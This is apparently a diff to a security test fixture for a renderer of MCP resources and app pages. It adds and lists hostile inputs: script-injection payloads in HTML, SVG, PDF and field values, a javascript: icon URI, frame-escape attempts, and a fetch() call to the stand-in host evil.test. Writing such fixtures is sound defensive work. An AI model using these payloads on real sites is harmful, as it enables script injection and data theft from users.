@@ -1,11 +1,15 @@
 // Hostile contents. Each one would call attacked() or load something of http://evil.test if it were not made harmless.
 const RUN = 'attacked()'
+export const END = 'the page did all that it tries'
 const EVIL = 'http://evil.test/steal'
 
 const html = inner => ({ mimeType: 'text/html', text: inner })
 const md = text => ({ mimeType: 'text/markdown', text })
 const svg = inner => ({ mimeType: 'image/svg+xml', text: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inner}</svg>` })
-const app = inner => ({ mimeType: 'text/html;profile=mcp-app', text: inner, app: true })
+/** A page of an app. Its last request is refused after all others were. It then reports that. */
+const app = inner => ({ mimeType: 'text/html;profile=mcp-app', app: true, text: `${inner}<script>
+  const end = () => fetch('${EVIL}/last').catch(() => parent.postMessage('${END}', '*'))
+  document.readyState === 'complete' ? end() : addEventListener('load', end)</script>` })
 
 /** Contents by the name of the attack. */
 export const contents = {
@@ -75,6 +79,8 @@ export const contents = {
   'blob: not base64': { mimeType: 'application/pdf', blob: `"><script>${RUN}</script>` },
   'pdf with a script': { mimeType: 'application/pdf', blob: Buffer.from(`%PDF-1.7 /OpenAction << /JS (${RUN}) >>`).toString('base64') },
   'content: wrong kinds of values': { contents: [null, 7, [], { uri: {}, mimeType: [], text: { toString: RUN } }, { uri: 5, blob: 9 }, {}] },
+  'content: page of an app as a blob': { mimeType: 'text/html;profile=mcp-app', blob: Buffer.from(`<script>${RUN}</script>`).toString('base64') },
+  'content: type and ending that each object has': { contents: [{ uri: 'x://a.constructor', text: 'a' }, { uri: 'x://a.toString', blob: 'YQ==' }] },
   'content: many parts': { contents: Array.from({ length: 5_000 }, (_, index) => ({ uri: `x:${index}`, text: `<b>${index}` })) },
   // Pages of apps: they may run, but only in their frame
   'app: parent': app(`<script>try { parent.document.title = 'owned'; parent.attacked() } catch {} try { top.location = '${EVIL}' } catch {}</script>`),
@@ -96,6 +102,7 @@ export const entries = {
   'type: markup': { name: 't', mimeType: `text/html"><script>${RUN}</script>` },
   'icon: another server': { name: 'i', icons: [{ src: `${EVIL}.svg` }, { src: `javascript:${RUN}` }] },
   'fields: wrong kinds of values': { name: { a: 1 }, title: 7, description: [RUN], mimeType: {}, size: 'huge', annotations: 'x', _meta: [] },
+  'description: no text': { name: 'v', description: { toString: 1, valueOf: 1 } },
   'size: not a number': { name: 's', size: -1e308, annotations: { lastModified: `<b onclick=${RUN}>` } },
 }
 
